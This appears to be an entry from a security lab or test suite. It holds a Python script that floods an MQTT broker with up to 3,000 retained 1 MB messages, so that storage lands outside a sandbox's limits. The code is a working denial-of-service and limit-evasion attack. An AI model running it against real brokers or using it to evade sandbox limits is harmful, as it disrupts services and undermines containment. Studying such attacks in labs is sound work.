# tries = "has the broker keep gigabytes: it is not in the capsule, so no limit of the capsule counts it"
# lab = "92"
# neighbour = "91"
# attacks = ["92.1"]
# %% ex-92-1
import socket


def packet(topic, size):
    # PUBLISH, QoS 0, retained; MQTT 3.1.1, chapters 2.2.3 and 3.3.
    left, length = len(topic) + 2 + size, b""
    while True:
        left, digit = divmod(left, 128)
        length += bytes([digit | (128 if left else 0)])
        if not left:
            return bytes([0x31]) + length + len(topic).to_bytes(2, "big") + topic.encode()


with socket.create_connection((broker.host, broker.port), 5) as link:
    link.sendall(bytes([0x10, 16, 0, 4]) + b"MQTT" + bytes([4, 2, 0, 0, 0, 4]) + b"fill")
    link.recv(4)
    # Bounded, in case a test machine has no limit: 3 GB.
    try:
        for number in range(3000):
            link.sendall(packet(f"flood/{number}", 1 << 20) + b"x" * (1 << 20))
    except OSError as error:
        print(error)


def announce(broker, topic, text):
    return None
